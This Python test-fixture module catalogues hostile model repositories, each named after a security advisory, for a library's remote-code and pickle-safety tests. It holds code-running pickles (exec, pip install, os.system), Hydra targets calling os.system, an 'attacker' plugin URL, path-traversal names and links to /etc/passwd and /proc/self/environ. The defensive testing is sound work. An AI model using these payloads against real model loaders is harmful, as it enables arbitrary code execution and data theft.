"""Repositories that may be hostile, as data: what each holds, and how much of it may be read.

Those of the advisories are named after them. `test_hostile_repositories.py` writes each, `hostile_server.py` loads it.
"""

import pickle
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

EVIL = "import os, sys\nsys.canary = True\nopen(os.environ['CANARY'], 'w').close()\n"
"""Code that leaves traces, in the process and outside of it."""

PLAIN = "from nameplate_config import PreTrainedConfig\n\n\nclass C(PreTrainedConfig):\n    model_type = 'foreign'\n"
"""The code of a config class."""

BOTH = PLAIN + "\n\nclass M:\n    config_class = C\n"
"""The code of a config class and of a model class."""

LOADS = ""
REFUSED = "RemoteCodeRefusedError"
BROKEN = "RemoteCodeError"

Bytes = str | bytes | Callable[[], str | bytes]


@dataclass(frozen=True)
class Repository:
    """One repository.

    Attributes:
        config: Its ``config.json``: what JSON has a text for, or the bytes.
        files: What its other files hold, by their paths.
        special: What is no file: ``"link"`` and where to, ``"fifo"``, ``"folder"``, ``"empty"`` and how many bytes.
        weights: Whether good weights lie there, of the architecture that is registered.
        options: What the caller passes.
        says: What every refusal says.
        config_error: The error of `AutoConfig`, or nothing if it loads.
        model_error: The error of `AutoModel`, or nothing if it loads.
        code_error: The error of `read_remote_code`, nothing if that can be looked at, None if it is not asked.
    """

    config: Any
    files: Mapping[str, Bytes] = field(default_factory=dict)
    special: Mapping[str, tuple[str, Any]] = field(default_factory=dict)
    weights: bool = False
    options: Mapping[str, Any] = field(default_factory=dict)
    says: str = ""
    config_error: str = REFUSED
    model_error: str = REFUSED
    code_error: str | None = LOADS


def inert(files: Mapping[str, Bytes] | None = None, **values: Any) -> Repository:
    """Return a repository of the registered architecture, whose hostile part is never looked at."""
    return Repository(
        {"model_type": "target", **values},
        files or {},
        weights=True,
        config_error=LOADS,
        model_error=LOADS,
        code_error=BROKEN if not values.get("auto_map") else LOADS,
        says="no auto_map" if not values.get("auto_map") else "",
    )


def remote(source: Bytes = BOTH, *, reference: str = "conf.C", **others: Any) -> Repository:
    """Return a repository of an architecture that only its own code defines."""
    files = {"conf.py": source, **others.pop("files", {})}
    auto_map = {"AutoConfig": reference, "AutoModel": reference}
    return Repository({"model_type": "foreign", "auto_map": auto_map, **others.pop("values", {})}, files, **others)


def unreadable(source: Bytes, says: str, **others: Any) -> Repository:
    """Return such a repository whose code cannot even be read."""
    return remote(source, says=says, code_error=BROKEN, **others)


def malformed(reference: Any, says: str = "Expected 'module.Class'") -> Repository:
    """Return a repository whose `auto_map` names no class."""
    files = {"conf.py": EVIL + BOTH, "evil.py": EVIL + BOTH, "__init__.py": EVIL + BOTH}
    return Repository(
        {"model_type": "foreign", "auto_map": {"AutoConfig": reference, "AutoModel": reference}},
        files,
        says=says,
        config_error=BROKEN,
        model_error=BROKEN,
        code_error=BROKEN,
    )


def absent(reference: str, says: str = "does not exist") -> Repository:
    """Return a repository whose `auto_map` names a class of Python or of a package, in a file that is not there."""
    return unreadable(EVIL + BOTH, says, reference=reference)


class _Call:
    """What calls a function when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


PICKLE = pickle.dumps(_Call(exec, EVIL))
"""A pickle that runs code."""

WEIGHTS = "pytorch_model.bin"
OF_TORCH = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
"""How a file begins that an old torch has saved."""


def pickled(name: str, data: bytes = PICKLE, *, error: str = "CheckpointError", says: str = "") -> Repository:
    """Return a repository of the registered architecture whose weights are a pickle."""
    return Repository(
        {"model_type": "target"},
        {name: data},
        config_error=LOADS,
        model_error=error,
        code_error=None,
        says=says,
    )


KERNEL = "attacker/kernel"
CODE = {"AutoConfig": "conf.C", "AutoModel": "conf.M"}
EVIL_FILES: Mapping[str, Bytes] = {"conf.py": EVIL + BOTH, "__init__.py": EVIL}

ADVISORIES: dict[str, Repository] = {
    # data that reaches code with trust off
    "CVE-2026-4372 a private key names a repository of code": inert(_attn_implementation_internal=KERNEL),
    "transformers 46708 a public key does": inert(attn_implementation=KERNEL, _attn_implementation=KERNEL),
    "CVE-2026-5241 the config trusts itself": Repository(
        {"model_type": "foreign", "auto_map": CODE, "trust_remote_code": True}, EVIL_FILES
    ),
    "CVE-2026-5241 a registered config trusts a nested one": inert(
        EVIL_FILES, trust_remote_code=True, anything={"model_type": "foreign", "auto_map": CODE}
    ),
    "SpanMarkerNER 85 a nested config is a set of arguments": inert(
        EVIL_FILES,
        encoder_config={"pretrained_model_name_or_path": ".", "trust_remote_code": True, "cache_dir": "/", "_path": ""},
    ),
    "CVE-2025-66448 code for a nested config": Repository(
        {"model_type": "target", "part": {"model_type": "foreign", "auto_map": CODE}},
        EVIL_FILES,
        says="foreign",
        config_error="ConfigFileError",
        model_error="ConfigFileError",
        code_error=None,
    ),
    "CVE-2026-22807 code at the start, before anybody asks": Repository(
        {"model_type": "foreign", "auto_map": {**CODE, "AutoTokenizer": ["conf.C", None]}}, EVIL_FILES
    ),
    "CVE-2026-27893 a registered architecture has code for a part": inert(
        EVIL_FILES, vision_config={"auto_map": CODE, "trust_remote_code": True}, auto_map=CODE
    ),
    "CVE-2026-44513 a local folder names code elsewhere": Repository(
        {"model_type": "foreign", "auto_map": {"AutoConfig": "attacker/code--conf.C", "AutoModel": "conf.M"}},
        EVIL_FILES,
        code_error=None,
    ),
    "CVE-2026-44513 a pipeline beside the config": inert(
        {"pipeline.py": EVIL, "model_index.json": '{"_class_name": ["pipeline", "P"]}'}, custom_pipeline="pipeline"
    ),
    "sentence-transformers 3801 a local folder is trusted": Repository(
        {"model_type": "foreign", "auto_map": CODE}, EVIL_FILES
    ),
    "sentence-transformers 3683 a file lists modules to import": inert(
        {"modules.json": '[{"idx": 0, "name": "0", "path": "", "type": "conf.C"}]', **EVIL_FILES}
    ),
    "modelscope 1405 the repository votes for its own plugins": inert(
        {"configuration.json": '{"allow_remote": true, "plugins": ["https://attacker/p.whl"]}', "ms_wrapper.py": EVIL},
        plugins=["https://attacker/p.whl"],
        allow_remote=True,
    ),
    "CVE-2025-1550 a module and a function by name": inert(
        anything={"module": "os", "class_name": "system", "config": {"command": "touch canary"}, "registered_name": ""}
    ),
    "CVE-2025-8747 a helpful function by name": inert(
        anything={"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://127.0.0.1:9"}}
    ),
    "CVE-2026-1462 a saved model inside of a layer": inert(
        {"saved/saved_model.pb": EVIL}, anything={"class_name": "TFSMLayer", "config": {"filepath": "saved"}}
    ),
    "NeMo a Hydra target": inert(_target_="os.system", command="touch canary", anything={"_target_": "builtins.exec"}),
    "Uni2TS a Hydra target below": inert(anything=[{"_target_": "subprocess.Popen", "_args_": [["touch", "canary"]]}]),
    "FlexTok a text that is evaluated": inert(anything="__import__('sys').__setattr__('canary', True)"),
    "CVE-2026-45804 an index of another kind": inert(
        {"model_index.json": '{"_class_name": "M", "unet": ["conf", "C"]}', **EVIL_FILES}
    ),
    "CVE-2025-66448 the registered name of a config with code": inert(EVIL_FILES, auto_map=CODE),
    "transformers 38474 code that wants a registered name": inert(
        {"conf.py": EVIL + BOTH.replace("foreign", "target")}, auto_map=CODE
    ),
    # pickles
    "GHSA-pqww-w348-m542 weights that are a pickle": pickled(WEIGHTS),
    "Stanza 1.12 weights that are a pickle": pickled("model.pt", error="SourceNotFoundError"),
    "CVE-2025-32434 weights of an old kind": pickled(WEIGHTS, OF_TORCH + PICKLE),
    "CVE-2026-24747 weights that only look so": pickled(WEIGHTS, b"PK\x03\x04" + PICKLE),
    "CVE-2026-1839 pickles beside the weights": inert(
        {"rng_state.pth": PICKLE, "training_args.bin": PICKLE, "optimizer.pt": PICKLE, "scheduler.pt": PICKLE}
    ),
    "torch 189308 the metadata of a distributed checkpoint": pickled(".metadata", says=".metadata"),
    "CVE-2025-1716 a pickle that installs a package": pickled(WEIGHTS, b"cpip._internal\nmain\n(S'install'\ntR."),
    "CVE-2025-10155 a pickle under another ending": pickled(
        "model.safetensors", error="CorruptFileError", says="model.safetensors"
    ),
    "CVE-2025-10156 an archive with a wrong checksum": pickled(WEIGHTS, b"PK\x03\x04" + bytes(26) + PICKLE),
    "CVE-2025-10157 a pickle of a submodule": pickled(WEIGHTS, b"casyncio.unix_events\nos.system\n(S'id'\ntR."),
    "CVE-2025-1889 a pickle in an unusual file": inert({"config.p": PICKLE, "data.pkl": PICKLE, "x.joblib": PICKLE}),
    "CVE-2025-1944 an archive in the place of weights": pickled(
        "model.safetensors", b"PK\x03\x04" + bytes(100), error="CorruptFileError", says="model.safetensors"
    ),
    # paths and amounts
    "transformers 46097 a shard outside of the folder": pickled(
        "model.safetensors.index.json",
        b'{"weight_map": {"one.weight": "../outside.safetensors", "one.bias": "/etc/passwd"}}',
        error="UnsafePathError",
        says="outside",
    ),
    "transformers 46890 the config names its weights": inert(transformers_weights="../../outside.safetensors"),
    "CVE-2026-9856 the name of a template leaves the folder": inert(
        {"tokenizer_config.json": '{"chat_template": [{"name": "../../../evil", "template": "{{ 1 }}"}]}'}
    ),
    "CVE-2026-0897 a shape of a petabyte": pickled(
        "model.safetensors",
        (header := b'{"one.weight":{"dtype":"F32","shape":[1125899906842624],"data_offsets":[0,8]}}')
        and len(header).to_bytes(8, "little") + header + bytes(8),
        error="CorruptFileError",
        says="one.weight",
    ),
    "CVE-2025-2099 imports that are slow to find": unreadable(lambda: "try:" * 20_000 + "\nexcept:", "no Python"),
    "CVE-2025-1194 a config file with a slow name": inert({"config." + "4." * 60 + "json": "{}"}),
    "transformers 47177 an archive that unpacks elsewhere": inert({"model.tar.gz": b"\x1f\x8b", "model.zip": b"PK"}),
    "mlflow CVE-2025-10279 a model file of its own": inert(
        {"MLmodel": "flavors: {python_function: {loader_module: conf}}"}
    ),
    "transformers an absolute module": malformed("/home/evil.C"),
    "transformers a local path as repository": malformed("/home/repository--evil.C"),
    "transformers a module of a cache that is squatted": absent("transformers_modules.evil.C"),
    "slopsquat a package that somebody may register": remote("import nameplate_extras_that_nobody_owns\n" + BOTH),
}  # fmt: skip
"""Every shape of attack that has a number of its own."""

_NO_CLASS = (
    ".", "..", "...", "conf", "conf.", ".conf.C", "..conf.C", "conf..C", "conf.C.", "/conf.C", "./conf.C",
    "../conf.C", "../../conf.C", "conf/../evil.C", "conf/evil.C", "conf\\evil.C", "..\\evil.C", "C:evil.C",
    "C:\\evil.C", "C:/evil.C", "\\\\server\\share.C", "//server/share.C", "\\\\?\\C:\\evil.C", "~.C", "~/evil.C",
    "$HOME.C", "${HOME}.C", "%TEMP%.C", "conf\x00.C", "\x00", "conf.C\x00", "con.C", "CON.C", "Nul.C", "aux.conf.C",
    "conf.prn.C", "com1.C", "LPT9.C", "conf.nul", "class.C", "None.C", "conf.lambda", "conf.1C", "1conf.C",
    "conf.C ", " conf.C", "conf .C", "conf. C", "conf.C\n", "conf\n.C", "conf\t.C", "conf-.C", "conf--", "--conf.C",
    "a--b--conf.C", "org--conf.C", "org/a/b--conf.C", "org/--conf.C", "/org--conf.C", "../org--conf.C",
    "org/..--conf.C", "../..--conf.C", "./org--conf.C", "org/.--conf.C", ".org/a--conf.C", "org/.a--conf.C",
    "org\\a--conf.C", "org/a@main--conf.C", "https://hub/org/a--conf.C", "file:///etc--conf.C", "org/a --conf.C",
    "org/a\n--conf.C", "org/a--../conf.C", "org/a--conf", "org/a--", "org/a--/home/evil.C", "org/a\x00--conf.C",
    "conf.__class__", "conf.__dict__", "conf.__init__", "__init__.C", "__main__.C", "__pycache__.conf.C",
    "__builtins__.exec", "conf.C()", "conf.C;import os", "conf.C#", "conf:C", "conf.C|id", "`id`.C", "$(id).C",
    "conf.C[0]", "\u0441onf.C", "\uff43onf.C", "conf.\u0421", "conf\u200b.C", "conf\u202e.C", "\ufeffconf.C",
    "co\u0301nf.C", "con\ufb01g.C", "\U0001d4b8onf.C", "conf\u2024C", "conf\u3002C", "\u2460.C", "\udc80.C",
)  # fmt: skip

_TOO_MUCH: dict[str, str] = {
    "a module of 101 letters": "a" * 101 + ".C",
    "a class of 10,000 letters": "conf." + "C" * 10_000,
    "seventeen packages": "a." * 17 + "C",
    "a million dots": "." * 1_000_000,
    "a million packages": "a." * 500_000 + "C",
    "a million dashes": "-" * 1_000_000,
    "a repository of a million letters": "a/" + "a" * 1_000_000 + "--conf.C",
}

_NOT_TEXT: dict[str, Any] = {
    "a number": 3,
    "true": True,
    "a list": ["conf.C"],
    "a pair as of tokenizers": ["conf.C", None],
    "an object": {"conf": "C"},
    "a list of lists": [[[["conf.C"]]]],
}

_ELSEWHERE = (
    "os.system", "builtins.exec", "builtins.eval", "subprocess.Popen", "pickle.loads", "torch.load", "sys.exit",
    "importlib.import_module", "runpy.run_path", "code.InteractiveInterpreter", "nameplate_auto.AutoConfig",
    "nameplate_config.PreTrainedConfig", "site_packages.torch.load", "conf.C.D", "conf.py.C", "Conf.C",
    "config.json", "hostile_server.Target", "timeit.timeit", "ctypes.CDLL",
)  # fmt: skip


def _of_map(auto_map: Any, says: str = "auto_map", error: str = BROKEN, code: str = BROKEN) -> Repository:
    return Repository(
        {"model_type": "foreign", "auto_map": auto_map},
        EVIL_FILES,
        says=says,
        config_error=error,
        model_error=error,
        code_error=code,
    )


NOBODY = "UnknownModelTypeError"

REFERENCES: dict[str, Repository] = {
    **{f"names {text!r}": malformed(text) for text in _NO_CLASS},
    **{f"names {what}": malformed(text) for what, text in _TOO_MUCH.items()},
    **{f"names no text but {what}": malformed(value, "AutoConfig") for what, value in _NOT_TEXT.items()},
    **{f"names {text!r}, which is not in it": absent(text) for text in _ELSEWHERE},
    "auto_map is a list": _of_map(["conf.C"], "", NOBODY),
    "auto_map is a text": _of_map("conf.C", "", NOBODY),
    "auto_map is a number": _of_map(1, "", NOBODY),
    "auto_map is true": _of_map(True, "", NOBODY),
    "auto_map is empty": _of_map({}, "", NOBODY),
    "auto_map has no such class": _of_map({"AutoConfiq": "conf.C"}, "", NOBODY, LOADS),
    "auto_map names null": _of_map({"AutoConfig": None, "AutoModel": None}, "", NOBODY),
    "auto_map names an empty text": _of_map({"AutoConfig": "", "AutoModel": ""}, "", NOBODY),
    "auto_map has 101 entries": _of_map({f"Auto{n}": "conf.C" for n in range(100)} | CODE),
    "auto_map has 30,000 entries": _of_map({f"Auto{n}": "conf.C" for n in range(30_000)} | CODE),
    "auto_map has a bad entry that nobody asked for": _of_map(CODE | {"AutoOther": "../evil.C"}),
    "auto_map has a key like code": _of_map(CODE | {"__import__('os')": "../evil.C"}),
    "auto_map has a key of a million letters": _of_map(CODE | {"A" * 1_000_000: "../evil.C"}),
    "auto_map names code of two repositories": Repository(
        {"model_type": "foreign", "auto_map": {"AutoConfig": "a/one--conf.C", "AutoModel": "b/two--conf.C"}},
        EVIL_FILES,
        says="which was not asked",
        code_error=None,
    ),
}
"""`auto_map` in every wrong form."""

# ---- files that are none


def linked(target: str, says: str, name: str = "conf.py") -> Repository:
    """Return a repository with a link in the place of its code."""
    kept = {} if name == "conf.py" else {"conf.py": BOTH + "\nfrom .part import x\n"}
    return Repository(
        {"model_type": "foreign", "auto_map": {"AutoConfig": "conf.C", "AutoModel": "conf.M"}},
        kept,
        {name: ("link", target)},
        says=says,
        code_error=BROKEN,
    )


def odd(kind: str, argument: Any = None, says: str = "does not exist", error: str = BROKEN) -> Repository:
    """Return a repository with something else in the place of its code."""
    return Repository(
        {"model_type": "foreign", "auto_map": CODE}, {}, {"conf.py": (kind, argument)}, says=says, code_error=error
    )


OUTSIDE = "leads out of the folder"

PLACES: dict[str, Repository] = {
    "a link to a file outside": linked("../outside.py", OUTSIDE),
    "a link to an absolute path": linked("/etc/hostname", OUTSIDE),
    "a link to an endless device": linked("/dev/zero", OUTSIDE),
    "a link to a device that blocks": linked("/dev/tty", OUTSIDE),
    "a link to the input": linked("/dev/stdin", OUTSIDE),
    "a link to the memory of the process": linked("/proc/self/mem", OUTSIDE),
    "a link to the environment": linked("/proc/self/environ", OUTSIDE),
    "a link to nowhere outside": linked("../nowhere.py", OUTSIDE),
    "a link to nowhere": linked("nowhere.py", "does not exist"),
    "a link to itself": linked("conf.py", ""),
    "a link to the folder above": linked("..", OUTSIDE),
    "a link to its own folder": linked(".", "does not exist"),
    "a link through the folder above": linked("../outside/../outside.py", OUTSIDE),
    "a package that is a link outside": linked("../outside", OUTSIDE, "part"),
    "a package that is a link to the root": linked("/", "does not exist", "part"),
    "a package that is a link to itself": linked("part", "does not exist", "part"),
    "an imported module that is a link outside": linked("../outside.py", OUTSIDE, "part.py"),
    "a pipe": odd("fifo"),
    "a folder": odd("folder"),
    "a terabyte": odd("empty", 1 << 40, "at most"),
    "a byte too large": odd("empty", (4 << 20) + 1, "at most"),
    "four megabytes of nothing": odd("empty", 4 << 20, ""),
    "a data file that is a link outside": Repository(
        {"model_type": "foreign", "auto_map": CODE},
        {"conf.py": BOTH + "X = 'labels.txt'\n"},
        {"labels.txt": ("link", "/etc/hostname")},
        says=OUTSIDE,
        code_error=BROKEN,
    ),
    "a data file that is a pipe": Repository(
        {"model_type": "foreign", "auto_map": CODE},
        {"conf.py": BOTH + "X = 'labels.txt'\n"},
        {"labels.txt": ("fifo", None)},
    ),
    "a data file that is a device": Repository(
        {"model_type": "foreign", "auto_map": CODE},
        {"conf.py": BOTH + "X = 'labels.txt'\n"},
        {"labels.txt": ("link", "/dev/zero")},
        says=OUTSIDE,
        code_error=BROKEN,
    ),
    "a data file of a terabyte": Repository(
        {"model_type": "foreign", "auto_map": CODE},
        {"conf.py": BOTH + "X = 'labels.txt'\n"},
        {"labels.txt": ("empty", 1 << 40)},
        says="at most",
        code_error=BROKEN,
    ),
    "a data file in a folder that is a link": Repository(
        {"model_type": "foreign", "auto_map": CODE},
        {"conf.py": BOTH + "X = 'tables/labels.txt'\n"},
        {"tables": ("link", "../outside")},
        says=OUTSIDE,
        code_error=BROKEN,
    ),
    "51 data files": remote(
        BOTH + f"X = {[f'{n}.txt' for n in range(51)]}\n",
        files={f"{n}.txt": str(n) for n in range(51)},
        says="51 data files",
        code_error=BROKEN,
    ),
    "names of data that lead out": remote(
        BOTH + "X = ['../outside.txt', '/etc/x.txt', 'a/../../outside.txt', 'C:x.txt', 's\\\\x.txt', '.hidden.txt']\n"
    ),
    "its own config as data": remote(BOTH + "X = 'config.json'\n"),
    "two modules that differ in case": remote(
        BOTH + "from . import part, Part\n", files={"part.py": "", "Part.py": EVIL}, says="in case", code_error=BROKEN
    ),
    "a module and a data file that differ in case": remote(
        BOTH + "X = ['a.txt', 'A.txt']\n", files={"a.txt": "", "A.txt": "1"}, says="in case", code_error=BROKEN
    ),
    "no file at all": Repository({"model_type": "foreign", "auto_map": CODE}, says="conf.py", code_error=BROKEN),
}  # fmt: skip
"""What lies in the place of code, and is none."""

# ---- sources that are none, or too much


def many(line: str, times: int, before: str = BOTH, after: str = "") -> Callable[[], str]:
    """Return what makes a source with a line many times; a `#` in it is its number."""
    return lambda: before + "".join(line.replace("#", str(number)) for number in range(times)) + after


SOURCES: dict[str, Repository] = {
    "no UTF-8": unreadable(b"# \xff\n" + BOTH.encode(), "not UTF-8"),
    "Latin 1": unreadable(b"# coding: latin-1\n" + BOTH.encode(), "another encoding"),
    "ROT 13": unreadable("# coding: rot13\n" + EVIL, "another encoding"),
    "a codec that evaluates escapes": unreadable("# coding: raw_unicode_escape\n" + EVIL, "another encoding"),
    "UTF-7": unreadable("# -*- coding: utf-7 -*-\n" + EVIL, "another encoding"),
    "a codec that is a module": unreadable("# coding: conf\n" + EVIL, "another encoding"),
    "a codec in the second line": unreadable("#\n# vim: set fileencoding=cp1252 :\n" + EVIL, "another encoding"),
    "a codec with a path": unreadable("# coding: ../../evil\n" + EVIL, ""),
    "UTF-8 with a signature": remote(b"\xef\xbb\xbf" + EVIL.encode() + BOTH.encode()),
    "UTF-16": unreadable(BOTH.encode("utf-16"), "not UTF-8"),
    "a NUL": unreadable(BOTH + "\0", ""),
    "only NULs": unreadable(lambda: bytes(100_000), ""),
    "an early end of the file": unreadable(BOTH + "\x1a" + EVIL, "no Python"),
    "no Python": unreadable("class C(\n", "conf.py:"),
    "another Python": unreadable("print 'canary'\n" + BOTH, "conf.py:1"),
    "a C program": unreadable("#include <stdio.h>\nint main(void) { return 0; }\n", "no Python"),
    "a page of a website": unreadable("<!DOCTYPE html><html></html>", "no Python"),
    "a pickle": unreadable(PICKLE, ""),
    "a pointer to a large file": unreadable("version https://git-lfs.github.com/spec/v1\noid sha256:0\n", "no Python"),
    "empty": unreadable("", "defines no class"),
    "no such class": unreadable("class D: pass\n", "defines no class 'C'"),
    "open quotes": unreadable(lambda: BOTH + '"""' + "x " * 20_000, "no Python"),
    "a character that turns the line around": remote("X = '\u202e'\n" + EVIL + BOTH),
    # nested
    **{
        f"{what} nested {times:,} deep": unreadable(lambda o=opening, c=end, n=times: BOTH + o * n + "0" + c * n, "")
        for what, opening, end, times in (
            ("brackets", "(", ")", 50_000),
            ("lists", "[", "]", 20_000),
            ("dicts", "{0:", "}", 20_000),
            ("calls", "f(", ")", 20_000),
            ("signs", "-", "", 50_000),
            ("negations", "not ", "", 50_000),
            ("functions without names", "lambda:", "", 20_000),
            ("sums", "1+", "", 25_000),
            ("attributes", "", ".a", 25_000),
            ("conditions", "1 if 1 else ", "", 10_000),
            ("stars", "*", "", 50_000),
            ("texts in texts", "f'{", "}'", 2_000),
            ("subscripts", "a[", "]", 20_000),
            ("waits", "await ", "", 30_000),
        )
    },
    "blocks nested 1,000 deep": unreadable(lambda: "".join(" " * n + "if 1:\n" for n in range(1_000)), "no Python"),
    "functions nested 90 deep": remote(
        lambda: BOTH + "".join(" " * n + "def f():\n" for n in range(90)) + " " * 90 + "from . import x\n",
    ),
    "conditions after each other": unreadable(lambda: "if 1: pass\n" + "elif 1: pass\n" * 10_000 + BOTH, ""),
    # much
    "a number of 100,000 digits": unreadable(lambda: "X = " + "9" * 100_000 + "\n" + BOTH, "no Python"),
    "a number of a million digits": remote(lambda: "X = 0x" + "f" * 1_000_000 + "\n" + BOTH),
    "a power tower": remote("X = 9 ** 9 ** 9 ** 9\n" + BOTH),
    "a text that is repeated": remote("X = 'x' * (1 << 40)\n" + BOTH),
    "a text of four megabytes": remote(lambda: "X = '" + "x" * (4_000_000) + "'\n" + BOTH),
    "a comment of four megabytes": remote(lambda: "#" + "x" * (4_000_000) + "\n" + BOTH),
    "a comment full of codecs": remote(lambda: "#" + "coding" * 600_000 + "\n" + BOTH),
    "a comment full of blanks": unreadable(lambda: "# coding:" + " \t" * 1_500_000 + "é\n" + "x y", ""),
    "three million blank lines": remote(lambda: "\n" * 3_000_000 + BOTH),
    "100,000 imports": unreadable(many("import a#\n", 100_000), "words and marks"),
    "100,000 relative imports": unreadable(many("from . import a#\n", 100_000), "words and marks"),
    "15,000 relative imports": unreadable(many("from . import a#\n", 15_000), "does not exist"),
    "10,000 relative imports that may fail": unreadable(
        many(" from .a# import b\n", 10_000, BOTH + "try:\n", "except ImportError: pass\n"),
        "1,000 files that do not exist",
    ),
    "20,000 names of one import": unreadable(
        many("a#,", 20_000, BOTH + "try: from . import ", "b\nexcept ImportError: pass\n"),
        "1,000 files that do not exist",
    ),
    "10,000 names of data": unreadable(many("'a#.txt'\n", 10_000), "1,000 files that do not exist"),
    "30,000 classes": unreadable(many("class A#: pass\n", 30_000), "words and marks"),
    "a million commas": unreadable(lambda: BOTH + "X = [" + "0," * 1_000_000 + "]", "words and marks"),
    "a million brackets": unreadable(lambda: BOTH + "()\n" * 1_000_000, "words and marks"),
    "many wrong escapes": remote(many("'\\d'\n", 8_000)),
    "300 modules": unreadable(
        BOTH + "from . import m0\n", "files", files={f"m{n}.py": f"from . import m{n + 1}\n" for n in range(300)}
    ),
    "100 modules that are each large": unreadable(
        BOTH + "".join(f"from . import m{n}\n" for n in range(100)),
        "words and marks",
        files={f"m{n}.py": "x = 1\n" * 5_000 for n in range(100)},
    ),
    "five modules of a megabyte": unreadable(
        BOTH + "".join(f"from . import m{n}\n" for n in range(5)),
        "bytes",
        files={f"m{n}.py": "#" + "x" * 1_000_000 for n in range(5)},
    ),
    # where imports lead
    "an import beyond the root": unreadable(BOTH + "from .. import outside\n", "leads out of the folder"),
    "an import far beyond the root": unreadable(BOTH + f"from {'.' * 1_000} import x\n", "leads out of the folder"),
    "an import beyond the root in a package": unreadable(
        BOTH + "from .deep import part\n",
        "leads out of the folder",
        files={"deep/__init__.py": "", "deep/part.py": "from ...outside import x\n"},
    ),
    "an import of a module that is not there": unreadable(BOTH + "from .absent import x\n", "absent.py"),
    "an import of a device": unreadable(BOTH + "from .con import x\n", "", files={"con.py": EVIL}),
    "an import of a main module": unreadable(BOTH + "from .__main__ import x\n", "", files={"__main__.py": EVIL}),
    "an import of a name that looks like another": unreadable(
        BOTH + "from .p\u0430rt import x\n", "", files={"p\u0430rt.py": EVIL}
    ),
    "an import of a ligature": unreadable(BOTH + "from .ﬁle import x\n", "file.py", files={"ﬁle.py": EVIL}),
    "imports in a circle": remote(
        BOTH + "from . import a\n", files={"a.py": EVIL + "from . import b\n", "b.py": "from . import a, conf\n"}
    ),
    "an import of itself": remote(EVIL + BOTH + "from .conf import C as D\nfrom . import conf\n"),
    "all names of a module that is not there": unreadable(BOTH + "from .absent import *\n", "absent.py"),
    "a broken module": unreadable(BOTH + "from . import a\n", "a.py:1", files={"a.py": "def\n"}),
    "a module in another encoding": unreadable(BOTH + "from . import a\n", "a.py", files={"a.py": b"\xff"}),
}  # fmt: skip
"""Sources that cost more than they should, or are none."""

# ---- code that would run

_RUN = "__import__('sys').__setattr__('canary', True)"

RUNNING: dict[str, Repository] = {
    f"code in {what}": remote(source + "\n" + BOTH)
    for what, source in {
        "a module": EVIL,
        "the body of a class": f"class A:\n    {_RUN}",
        "a decorator": f"@({_RUN} or (lambda f: f))\ndef f(): pass",
        "a default": f"def f(x={_RUN}): pass",
        "an annotation": f"x: {_RUN} = 1",
        "the base of a class": f"class A({_RUN} or object): pass",
        "the metaclass of a class": f"class A(metaclass={_RUN} or type): pass",
        "a hook for subclasses": f"class A:\n    def __init_subclass__(cls): {_RUN}\nclass B(A): pass",
        "a hook for attributes": f"class A:\n    def __set_name__(self, o, n): {_RUN}\nclass B:\n    a = A()",
        "a formatted text": f'X = f"{{{_RUN}}}"',
        "a comprehension": f"X = [{_RUN} for _ in (1,)]",
        "a test": f"assert not {_RUN}",
        "a condition for type checkers": f"TYPE_CHECKING = not {_RUN}\nif TYPE_CHECKING: pass",
        "a failed import": f"try:\n    import nothing_of_that_name\nexcept ImportError:\n    {_RUN}",
        "what asks for attributes": f"def __getattr__(name): {_RUN}\n__getattr__('x')",
        "a with": f"class A:\n    def __enter__(self): {_RUN}\n    def __exit__(self, *_): pass\nwith A(): pass",
        "a match": f"match {_RUN}:\n    case _: pass",
        "a future": f"from __future__ import annotations\n{_RUN}",
        "its list of exports": f"__all__ = [{_RUN}]",
        "what it deletes": f"class A:\n    def __del__(self): {_RUN}\nA()",
    }.items()
}
"""Every place where importing a module runs something."""

_PYC = b"\xa7\r\r\n" + bytes(12) + b"\xe3"

BYSTANDERS: dict[str, Repository] = {
    f"{name} beside a config": inert({name: data})
    for name, data in {
        "sitecustomize.py": EVIL,
        "usercustomize.py": EVIL,
        "conftest.py": EVIL,
        "setup.py": EVIL,
        "__main__.py": EVIL,
        "__init__.py": EVIL,
        "nameplate_config.py": EVIL,
        "nameplate_auto/__init__.py": EVIL,
        "torch.py": EVIL,
        "json.py": EVIL,
        "modeling_target.py": EVIL,
        "target.py": EVIL,
        "evil.pth": EVIL,
        "evil.so": b"\x7fELF",
        "conf.pyc": _PYC,
        "__pycache__/conf.cpython-311.pyc": _PYC,
        "requirements.txt": "--index-url http://127.0.0.1:9\nevil\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evil'\n",
        "trust.toml": "[[allow]]\nrepository = '.'\n",
        "nameplate/trust.toml": "[[allow]]\nrepository = '.'\n",
        ".env": "NAMEPLATE_TRUST_FILE=trust.toml\n",
        "entry_points.txt": "[nameplate.architectures]\nforeign = evil:C\n",
        "evil-1.dist-info/entry_points.txt": "[nameplate.architectures]\nforeign = evil:C\n",
        "generation_config.json": '{"trust_remote_code": true, "custom_generate": "evil"}',
        "custom_generate/generate.py": EVIL,
        "preprocessor_config.json": '{"auto_map": {"AutoImageProcessor": "evil.P"}}',
        "README.md": "---\nlibrary_name: evil\ncustom_code: true\n---\n",
    }.items()
} | {
    f"{name} beside code": remote(EVIL + BOTH, files={name: data})
    for name, data in {
        "conf.pyc": _PYC,
        "__pycache__/conf.cpython-311.pyc": _PYC,
        "conf.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
        "conf.pyd": b"MZ",
        "conf/__init__.py": EVIL,
        "trust.toml": "[[allow]]\nrepository = '.'\n",
        "__init__.py": EVIL,
    }.items()
}
"""Files that some program would run, which nobody here asked for."""

# ---- keys of a config

_METHODS = ("to_dict", "from_pretrained", "name_or_path", "__class__", "__init__", "__reduce__", "_declared", "copy")

_KEYS: dict[str, Any] = {
    "trust_remote_code": True,
    "code_revision": "main",
    "revision": "main",
    "token": "x",
    "_commit_hash": "0" * 40,
    "_name_or_path": "/etc",
    "custom_pipelines": {"x": {"impl": "conf.C", "pt": ["AutoModel"]}},
    "custom_generate": "conf",
    "tokenizer_class": "conf.C",
    "processor_class": "../conf.C",
    "quantization_config": {"quant_method": "attacker/kernel", "modules_to_not_convert": ["os.system"]},
    "kernel_config": {"path": "conf.py"},
    "use_kernels": "attacker/kernel",
    "hub_kernels": ["attacker/kernel"],
    "requirements": ["evil"],
    "pip_install": "evil",
    "_target_": "os.system",
